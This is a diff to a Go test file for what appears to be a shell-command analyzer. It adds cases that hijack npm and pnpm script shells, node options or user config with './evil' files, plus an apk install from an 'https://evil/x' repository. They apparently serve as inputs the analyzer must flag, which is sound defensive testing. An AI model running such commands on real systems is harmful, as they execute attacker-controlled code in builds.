@@ -96,6 +96,8 @@ curl -fsS -d @msg.json https://hooks.slack.com/services/x`,
 		`mkdir -p reports; cd reports; echo x > a.json; cd ..; npm test`,
 		`cd "$(mktemp -d)"; curl -fsSO https://x/y.txt`,
 		`cd app && npm ci && npm run lint`,
+		`npm ci --ignore-scripts --no-audit --loglevel=warn; npm test -- --coverage`,
+		`pnpm --prefix app install --frozen-lockfile`,
 		`START=$(date +%s); END=$((START + 300)); while [ "$(date +%s)" -lt "$END" ]; do sleep 5; done`,
 		`for attempt in $(seq 1 30); do echo "try $attempt"; sleep $((attempt * 2)); done`,
 		`attempts=0; max=30; while [ $attempts -lt $max ]; do attempts=$((attempts+1)); sleep 1; done`,
@@ -537,6 +539,15 @@ kubectl --kubeconfig kubeconfig get pods`,
 		`IFS=,; X=kubectl,apply; $X -f x`,
 		`kubectl config set-credentials x --exec-command=./evil; kubectl get pods`,
 		`npm config set script-shell ./evil; npm test`,
+		`npm test --script-shell=./evil`,
+		`npm test --script-shell ./evil`,
+		`npm --script-shell=./evil test`,
+		`npm test --script-sh=./evil`,
+		`npm test --node-options="--require ./evil.js"`,
+		`npm ci --userconfig ./evil`,
+		`pnpm test --script-shell=./evil`,
+		`pnpm --config.script-shell=./evil test`,
+		`apk --repository=https://evil/x add jq`,
 		`export NODE_OPTIONS='--require ./evil.js'; npx playwright test`,
 		`mv x.json package.json; npm test`,
 		`curl -o package.json https://x/evil.json; npm test`,
@@ -903,7 +914,7 @@ func TestAnalyzeOnce(t *testing.T) {
 		for _, pattern := range []string{"", "^.*$", "^registry.example.com/app@sha256:[0-9a-f]{64}$"} {
 			script := []scriptLine{{item, line + 2}, {"kubectl get pods", line}, {"crossbill promote", line + 9}}
 			inputs := map[string]Input{"image": {Regex: pattern}, "namespace": {Options: []string{"a"}, closed: true, line: line}}
-			got, want := analyzeOnce(script, inputs), analyze(script, scriptContext{Inputs: inputs})
+			got, want := analyzeOnce(script, scriptContext{Inputs: inputs}), analyze(script, scriptContext{Inputs: inputs})
 			if diff := cmp.Diff(want, got, cmp.AllowUnexported(effects{}), cmpopts.EquateEmpty()); diff != "" {
 				t.Errorf("line %d, pattern %q (-anew +again):\n%s", line, pattern, diff)
 			}
